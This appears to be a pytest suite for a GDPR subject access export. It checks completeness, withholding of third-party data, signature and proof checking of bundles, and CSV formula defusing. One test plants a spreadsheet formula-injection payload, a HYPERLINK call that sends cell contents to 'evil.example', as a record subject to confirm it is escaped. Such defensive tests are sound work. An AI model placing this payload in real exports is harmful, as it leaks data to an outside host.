"""The subject access bundle is complete both ways: it holds every record, event and
attachment of the person, found under any spelling of any identifier linked to them, and
nothing of anyone else (unique markers, checked in both directions, and on a synthetic
register against a brute-force oracle). It carries the Art. 15 information, withholds other
people's data, keeps CSV cells from running as formulas, and ``check-bundle`` refuses it
changed, added to, cut, signed by another key, or showing content its proofs do not prove."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from erasure_fixtures import Person, records_of, sent
from export_fixtures import rewrite
from retention_fixtures import lines

from commsledger import synthetic
from commsledger.config import Settings
from commsledger.core import ingest
from commsledger.core.access_bundle import export_for
from commsledger.core.register import Register
from exports.bundle import BundleWriter
from exports.check import check_bundle
from exports.proofs import Prover
from exports.sar import KIND
from ledger.note import Signer
from privacy.identifiers import IdKind, identifier_text

ZED, OTHER, THIRD = Person("qzb", 791), Person("qjo", 792), Person("qkt", 793)


@pytest.fixture
def register(file_settings: Settings) -> Iterator[Register]:
    with Register(file_settings) as reg:
        yield reg


def load(register: Register, *batches: list[dict[str, Any]]) -> None:
    report = ingest.ingest(register, lines([d for batch in batches for d in batch]))
    assert report.rejected == [], report.rejected


def export(register: Register, tmp_path: Path, *identifiers: str, name: str = "b.zip") -> dict[str, Any]:
    out = tmp_path / name
    done = export_for(register, list(identifiers), out).to_json()
    with zipfile.ZipFile(out) as z:
        done["members"] = {n: z.read(n) for n in z.namelist()}
    return done


def text_of(bundle: dict[str, Any]) -> str:
    """Everything the bundle shows a reader (proofs and manifest aside), as one text."""
    skip = {"proofs.ndjson", "manifest.json", "manifest.sig", "checkpoint.txt"}
    return "\n".join(v.decode("utf-8") for k, v in bundle["members"].items() if k not in skip)


def communications(bundle: dict[str, Any]) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = json.loads(bundle["members"]["communications.json"])
    return found


def test_complete_both_ways_under_every_spelling(register: Register, tmp_path: Path) -> None:
    people = {
        p: records_of(p, 1) + records_of(p, 10, purpose="complaint", count=2) for p in (ZED, OTHER, THIRD)
    }
    load(register, *people.values())
    response = [{"type": "response", "at": sent(0), "summary": f"reply {ZED.marker(99)}"}]
    assert ingest.add_events(register, people[ZED][0]["id"], lines(response)).accepted == 1
    for person, mine in people.items():
        spelled = f"phone:{person.national}" if person is OTHER else person.identifier()
        bundle = export(register, tmp_path, spelled, name=f"{person.key}.zip")
        shown = text_of(bundle)
        assert sorted(c["id"] for c in communications(bundle)) == sorted(d["id"] for d in mine)
        assert person.marker(0) in shown
        assert person.customer in shown
        for other in people:
            if other is not person:
                assert other.key not in shown.lower(), (person, other)  # no id, marker or name of theirs
                assert all(not c["id"].startswith(other.key) for c in communications(bundle))
    zed = export(register, tmp_path, f"customer:{ZED.customer}", name="zed-again.zip")
    first = communications(zed)
    assert [c["sent_at"] for c in first] == sorted(c["sent_at"] for c in first)  # date order
    (with_reply,) = [c for c in first if c["history"]]
    assert with_reply["history"][0]["summary"] == f"reply {ZED.marker(99)}"
    assert with_reply["current_status"] == "responded"
    attachments = sorted(k for k in zed["members"] if k.startswith("attachments/"))
    assert attachments == sorted(
        f"attachments/{d['id']}/1-letter.txt" for d in people[ZED] if "attachments" in d
    )
    assert {zed["members"][a] for a in attachments} == {f"attachment{ZED.key}secret".encode()}


def test_an_identifier_nobody_was_sent_to_gives_an_empty_valid_bundle(
    register: Register, tmp_path: Path
) -> None:
    load(register, records_of(ZED, 1))
    bundle = export(register, tmp_path, "email:nobody.at.all@example.net")
    assert bundle["records"] == 0
    assert communications(bundle) == []
    assert "We found <strong>0</strong> communications" in bundle["members"]["index.html"].decode()
    result = check_bundle(tmp_path / "b.zip", register.signer.verifier().vkey())
    assert (result["ok"], result["kind"], result["records"]) == (True, KIND, 0)


def test_the_bundle_informs_withholds_third_parties_and_defuses_formulas(
    register: Register, tmp_path: Path
) -> None:
    mine = records_of(ZED, 1)
    mine[1]["subject"] = '=HYPERLINK("http://evil.example/?x="&A1, "Click")'
    load(register, mine)
    bundle = export(register, tmp_path, ZED.identifier())
    html = bundle["members"]["index.html"].decode()
    articles = [f"15(1)({letter})" for letter in "abcdefgh"] + ["15(2)"]
    for item in [*articles, "Information Commissioner", "C5 marketing, kept until"]:
        assert item in html, item
    info = json.loads(bundle["members"]["information.json"])
    assert [c["class"] for c in info["retention"]["classes"]] == ["C5 marketing"]
    assert "u-staff" not in text_of(bundle)  # staff ids are other people's data
    assert {c["sender"]["agent"] for c in communications(bundle)} == {"[withheld: third party]"}
    rows = list(csv.DictReader(io.StringIO(bundle["members"]["communications.csv"].decode())))
    (evil,) = [r for r in rows if "HYPERLINK" in r["subject"]]
    assert evil["subject"].startswith("'=")
    assert "<script" not in html.lower()


@pytest.mark.parametrize(
    ("member", "data", "says"),
    [
        ("communications.json", b"[\n]\n", "changed"),
        ("index.html", b"<p>nothing</p>", "changed"),
        ("attachments/extra.txt", b"planted", "added"),
        ("communications.csv", None, "removed"),
    ],
)
def test_check_bundle_refuses_a_subject_access_bundle_tampered_with(
    register: Register, tmp_path: Path, member: str, data: bytes | None, says: str
) -> None:
    load(register, records_of(ZED, 1))
    export(register, tmp_path, ZED.identifier())
    vkey = register.signer.verifier().vkey()
    assert check_bundle(tmp_path / "b.zip", vkey)["ok"]
    other = Signer.generate(register.signer.name).verifier().vkey()  # the same name, another key
    assert check_bundle(tmp_path / "b.zip", other)["problems"][0]["member"] == "manifest.sig"
    rewrite(tmp_path / "b.zip", tmp_path / "bad.zip", {member: data})
    result = check_bundle(tmp_path / "bad.zip", vkey)
    assert not result["ok"]
    assert any(p["member"] == member and says in p["problem"] for p in result["problems"]), result["problems"]


def test_content_its_proofs_do_not_prove_is_refused_even_when_signed(
    register: Register, tmp_path: Path
) -> None:
    load(register, records_of(ZED, 1))
    checkpoint, note = register.checkpoint()
    prover = Prover(register, checkpoint)
    out = tmp_path / "forged.zip"
    with BundleWriter(out, kind=KIND, scope={}, signer=register.signer, checkpoint=checkpoint, note=note,
                      created_at="2026-12-05T00:00:00Z") as writer:  # fmt: skip
        writer.add("communications.json", '[\n{"id": "qzb-00001", "sent_at": "1999-01-01T00:00:00Z"}\n]\n')
        writer.add_proof("qzb-00001", prover.proof(prover.entries("qzb-00001")))
    result = check_bundle(out, register.signer.verifier().vkey())
    assert result["problems"] == [
        {
            "member": "communications.json",
            "problem": "communication 1: sent_at differs from the ledger entry of record 'qzb-00001'",
        }
    ]


def _names(record: dict[str, Any]) -> list[str]:
    rcp = record["recipient"]
    kinds = (("customer_id", IdKind.CUSTOMER), ("email", IdKind.EMAIL), ("phone", IdKind.PHONE),
             ("handle", IdKind.HANDLE), ("address", IdKind.ADDRESS))  # fmt: skip
    return [identifier_text(kind, rcp[f]) for f, kind in kinds if rcp.get(f)]


def oracle(records: list[dict[str, Any]]) -> dict[str, set[str]]:
    """identifier -> ids of every record of the person it names: identifiers named together
    by one record are one person (union-find), computed here from the plain records."""
    parent: dict[str, str] = {}

    def root(x: str) -> str:
        while parent.setdefault(x, x) != x:
            x = parent[x]
        return x

    for r in records:
        names = _names(r)
        for other in names[1:]:
            parent[root(other)] = root(names[0])
    groups: dict[str, set[str]] = {}
    for r in records:
        groups.setdefault(root(_names(r)[0]), set()).add(r["id"])
    return {n: groups[root(n)] for n in parent}


@pytest.mark.slow
def test_a_synthetic_register_against_a_brute_force_oracle(register: Register, tmp_path: Path) -> None:
    path = tmp_path / "synthetic.ndjson"
    synthetic.write_ndjson(path, 1500, seed=11, subjects=60)
    records = [json.loads(line) for line in path.read_text().splitlines()]
    with path.open("rb") as stream:
        assert ingest.ingest(register, ingest.read_ndjson(stream)).rejected == []
    expected = oracle(records)
    by_id = {r["id"]: r for r in records}
    chosen = sorted(n for n in expected if n.startswith("email:"))[:3]
    for number, name in enumerate(chosen):
        spelled = by_id[sorted(expected[name])[0]]["recipient"].get("email", name[6:])
        bundle = export(register, tmp_path, f"email:{spelled.upper()}", name=f"s{number}.zip")
        assert {c["id"] for c in communications(bundle)} == expected[name]
        attachments = sum(len(by_id[i].get("attachments") or []) for i in expected[name])
        assert sum(k.startswith("attachments/") for k in bundle["members"]) == attachments
        for c in communications(bundle):
            assert c["body"] == by_id[c["id"]]["body"]
        assert check_bundle(tmp_path / f"s{number}.zip", register.signer.verifier().vkey())["ok"]
